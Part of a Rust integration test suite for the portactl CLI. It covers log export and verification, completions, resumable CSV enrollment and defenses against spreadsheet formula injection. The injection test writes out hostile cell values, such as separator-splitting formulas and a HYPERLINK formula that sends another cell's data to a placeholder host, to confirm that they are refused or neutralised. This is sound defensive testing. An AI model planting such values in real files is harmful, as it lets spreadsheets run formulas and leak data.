    cli.json(&[
        "logs",
        "export",
        "--kind",
        "admin",
        "--user",
        "anna",
        "--out",
        file.to_str().unwrap(),
    ])
    .await;
    let (code, stderr) = cli
        .fails(&["logs", "verify", "--file", file.to_str().unwrap()])
        .await;
    assert_eq!(code, 5, "{stderr}");
    assert!(stderr.contains("--partial"), "{stderr}");
    assert_eq!(
        cli.json(&[
            "logs",
            "verify",
            "--partial",
            "--file",
            file.to_str().unwrap()
        ])
        .await["ok"],
        true
    );
}

#[tokio::test]
async fn tables_fit_the_width_and_completions_offer_only_what_is_usable() {
    let (ctl, _dir, cli) = logged_in().await;
    cli.json(&[
        "users",
        "add",
        "núria.puig.i.sola",
        "--display-name",
        "Núria Puig i Solà, Servei d'Atenció Ciutadana i Oficina de Turisme",
    ])
    .await;
    let listed = std::process::Command::new(binary("portactl"))
        .arg("--config")
        .arg(&cli.config)
        .args(["users", "list"])
        .env("COLUMNS", "50")
        .output()
        .unwrap();
    let table = String::from_utf8(listed.stdout).unwrap();
    assert!(table.contains("núria.puig.i.sola"), "{table}");
    for line in table.lines() {
        assert!(
            line.chars().count() <= 50,
            "wider than 50 columns: {line:?}\n{table}"
        );
    }

    let completions = |program: &str| {
        let output = std::process::Command::new(binary(program))
            .args(["completions", "bash"])
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    for program in ["portactl", "porta", "porta-controller"] {
        assert!(
            !completions(program).contains("manpages"),
            "{program} offers its hidden command"
        );
    }
    assert!(completions("porta-controller").contains("\"human json\""));

    // Logged in, bash completes the controller's names.
    let invited = cli
        .json(&["enroll", "--user", "anna", "--device", "anna-laptop"])
        .await;
    enroll(
        &mut ctl.enrollment().await,
        invited["invitation"].as_str().unwrap(),
    )
    .await
    .unwrap();
    cli.json(&["groups", "add", "gis"]).await;
    let complete = |words: &str| {
        let script = format!(
            "source <(portactl completions bash)\n\
             COMP_WORDS=({words}); COMP_CWORD=$((${{#COMP_WORDS[@]}} - 1)); COMP_TYPE=9\n\
             _clap_complete_portactl portactl \"${{COMP_WORDS[COMP_CWORD]}}\" portactl\n\
             printf '%s\\n' \"${{COMPREPLY[@]}}\""
        );
        let output = std::process::Command::new("bash")
            .args(["-c", &script])
            .env(
                "PATH",
                format!(
                    "{}:/usr/bin:/bin",
                    binary("portactl").parent().unwrap().display()
                ),
            )
            .env("PORTACTL_CONFIG", &cli.config)
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    assert!(complete("portactl devices revoke an").contains("anna-laptop"));
    assert!(complete("portactl users show nú").contains("núria.puig.i.sola"));
    assert!(complete("portactl groups allow g").contains("gis"));
}

#[tokio::test]
async fn a_csv_run_stops_when_the_controller_dies_and_a_rerun_finishes_every_row() {
    let (mut ctl, dir, cli) = logged_in().await;
    let staff = dir.path().join("staff.csv");
    let out = dir.path().join("invitations.csv");
    let mut rows = String::from("user,device\n");
    for i in 0..400 {
        rows.push_str(&format!("u{i:03},pc-{i:03}\n"));
    }
    std::fs::write(&staff, rows).unwrap();
    // An invitation created by a run that died before writing it down.
    let lost = cli
        .json(&["enroll", "--user", "u001", "--device", "pc-001"])
        .await;

    // The controller dies mid-run: the run stops after a few rows, not 400.
    let run = tokio::process::Command::new(binary("portactl"))
        .arg("--config")
        .arg(&cli.config)
        .args(["enroll", "--csv"])
        .arg(&staff)
        .arg("--out")
        .arg(&out)
        .stdin(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    while read_out_if_any(&out).len() < 3 {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    ctl.kill9().await.unwrap();
    let stopped = run.wait_with_output().await.unwrap();
    let said = String::from_utf8_lossy(&stopped.stderr);
    assert!(!stopped.status.success());
    assert!(
        said.contains("stopped at line") && said.contains("run the same command again"),
        "{said}"
    );
    // At most the rows in flight when it died (32 at a time) fail, not the
    // remaining hundreds.
    let failed_lines = said.lines().filter(|l| l.starts_with("line ")).count();
    assert!(failed_lines <= 32 + 3, "it went on failing: {said}");

    // The re-run finishes: every row once, the lost invitation replaced.
    ctl.serve().await.unwrap();
    let summary = cli
        .json(&[
            "enroll",
            "--csv",
            staff.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ])
        .await;
    assert_eq!(summary["failed"], serde_json::json!([]), "{summary}");
    let written = read_out(&out);
    assert_eq!(written.len(), 400);
    let tokens = cli.json(&["tokens", "list"]).await;
    let tokens = tokens.as_array().unwrap();
    assert_eq!(tokens.len(), 400, "one open invitation per row");
    assert!(
        tokens.iter().all(|t| t["id"] != lost["token_id"]),
        "the lost invitation no longer works"
    );
}

/// The rows of a CSV output file, or none while it does not exist yet.
fn read_out_if_any(path: &Path) -> Vec<Vec<String>> {
    if path.exists() {
        read_out(path)
    } else {
        Vec::new()
    }
}

/// Opens each of `files` in headless LibreOffice as a CSV split at
/// `separator`, with formulas evaluated (what a Catalan, Spanish or Italian
/// locale offers for `;`), and saves the values it shows as CSV into
/// `out_dir`; returns the saved texts.
fn libreoffice_values(files: &[&Path], separator: u8, out_dir: &Path) -> Vec<String> {
    std::fs::create_dir_all(out_dir).unwrap();
    // Separator, text delimiter ", UTF-8, from line 1, …, evaluate
    // formulas; the values as shown, written back with commas.
    let infilter =
        format!("--infilter=CSV:{separator},34,76,1,,0,false,false,false,false,false,true");
    let args = [
        infilter.as_str(),
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1",
    ];
    let output = soffice(files, &args, out_dir);
    files
        .iter()
        .map(|file| {
            let saved = out_dir.join(file.file_name().unwrap());
            std::fs::read_to_string(&saved).unwrap_or_else(|e| {
                panic!("LibreOffice wrote no {}: {e}; {output:?}", saved.display())
            })
        })
        .collect()
}

#[tokio::test]
async fn no_formula_runs_whatever_separator_a_spreadsheet_splits_a_csv_at() {
    let (ctl, dir, cli) = logged_in().await;
    // A laptop names itself and its system: what could split a cell and
    // start a formula is refused at the controller, at enrollment and in
    // status reports.
    let invitation = cli
        .json(&["enroll", "--user", "anna", "--device", "anna-pc"])
        .await["invitation"]
        .as_str()
        .unwrap()
        .to_owned();
    let token = porta_proto::invitation::Invitation::decode(&invitation)
        .unwrap()
        .token;
    let key = porta_tunnel::keys::PrivateKey::generate()
        .public_key()
        .to_base64();
    let mut enrollment = ctl.enrollment().await;
    for (hostname, os) in [("pc;=1+1;", "Debian"), ("pc", "Windows 11;=2*21;")] {
        let refused = enrollment
            .enroll(pb::EnrollRequest {
                token: token.clone(),
                public_key: key.clone(),
                hostname: hostname.into(),
                os: os.into(),
                attempt: String::new(),
            })
            .await
            .expect_err("a hostname or OS that splits a cell is refused");
        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");
    }
    let anna = enroll(&mut enrollment, &invitation).await.unwrap();
    let refused = ctl
        .device_with(&anna.credential)
        .await
        .report_status(pb::DeviceStatusReport {
            hostname: "pc\t=3+3".into(),
            os: "Windows 11,=2*21".into(),
            ..Default::default()
        })
        .await
        .expect_err("a status report that splits a cell is refused");
    assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");

    // What admins type (kept as typed) and what a CSV of staff carries.
    cli.json(&[
        "groups",
        "add",
        "serveis",
        "--description",
        "Serveis;=1234*1000;",
    ])
    .await;
    cli.json(&[
        "users",
        "add",
        "bernat",
        "--display-name",
        "Bernat,=1111*1000",
    ])
    .await;
    let staff = dir.path().join("staff.csv");
    std::fs::write(
        &staff,
        "user,device,display_name\n\
         carla,carla-pc,=3333*1000\n\
         dani,dani-pc,\"Dani;=4444*1000;\"\n\
         enric,enric-pc,\"=HYPERLINK(\"\"http://x?\"\"&C2)\"\n",
    )
    .unwrap();
    let invitations = dir.path().join("invitations.csv");
    let summary = cli
        .json(&[
            "enroll",
            "--csv",
            staff.to_str().unwrap(),
            "--out",
            invitations.to_str().unwrap(),
        ])
        .await;
    assert_eq!(summary["enrolled"], 3, "{summary}");
    let admin_log = dir.path().join("admin.csv");
    cli.json(&[
        "logs",
        "export",
        "--kind",
        "admin",
        "--out",
        admin_log.to_str().unwrap(),
    ])
    .await;
    let raw = std::fs::read_to_string(&admin_log).unwrap();
    assert!(
        raw.contains("1234*1000") && raw.contains("1111*1000"),
        "{raw}"
    );

    for (name, separator) in [("comma", b','), ("semicolon", b';'), ("tab", b'\t')] {
        let shown = libreoffice_values(
            &[&admin_log, &invitations],
            separator,
            &dir.path().join(name),
        );
        for (file, text) in ["admin.csv", "invitations.csv"].iter().zip(&shown) {
            for computed in ["1234000", "1111000", "3333000", "4444000"] {
                assert!(
                    !text.contains(computed),
                    "{file} split at {name} ran a formula ({computed}):\n{text}"
                );
            }
            assert!(!text.contains("Err:"), "{file} split at {name}:\n{text}");
            if *file == "invitations.csv" {
                assert!(
                    text.contains("HYPERLINK"),
                    "shown as typed, not run:\n{text}"
                );
            }
        }
    }
    // Still what was typed, once the marks are taken away: the export
    // verifies, and a re-run of the CSV finds every row done.
    let verified = cli
        .json(&["logs", "verify", "--file", admin_log.to_str().unwrap()])
        .await;
    assert_eq!(verified["ok"], true, "{verified}");
    let again = cli
        .json(&[
            "enroll",
            "--csv",
            staff.to_str().unwrap(),
            "--out",
            invitations.to_str().unwrap(),
        ])
        .await;
    assert_eq!(
        (again["enrolled"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(3)),
        "{again}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verifying_while_admins_write_never_reports_tampering() {
    let (_ctl, dir, cli) = logged_in().await;
    // A log long enough that a walk takes a while: 300 enrollments.
    cli.json(&["groups", "add", "staff"]).await;
    let staff = dir.path().join("staff.csv");
    let rows: String = (0..300)
        .map(|n| format!("user{n},user{n}-pc,staff,,\n"))
        .collect();
    std::fs::write(
        &staff,
        format!("user,device,groups,display_name,email\n{rows}"),
    )
    .unwrap();
    let out = dir.path().join("invitations.csv");
    let enrolled = cli
        .run(&[
            "enroll",
            "--csv",
            staff.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ])
        .await;
    assert!(enrolled.status.success(), "{enrolled:?}");

    // Another admin keeps changing things while the auditor verifies.
    let writing = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let writer = tokio::spawn({
        let (writing, admin) = (writing.clone(), Portactl::new(dir.path()));
        async move {
            let mut n = 0;
            while writing.load(std::sync::atomic::Ordering::Relaxed) {
                admin.json(&["groups", "add", &format!("g{n}")]).await;
                n += 1;
            }
            n
        }
    });
    for run in 0..30 {
        let verified = cli.run(&["logs", "verify"]).await;
        assert!(
            verified.status.success(),
            "run {run}: {}{}",
            String::from_utf8_lossy(&verified.stdout),
            String::from_utf8_lossy(&verified.stderr)
        );
    }
    writing.store(false, std::sync::atomic::Ordering::Relaxed);
    assert!(writer.await.unwrap() > 10, "the admin wrote meanwhile");
}
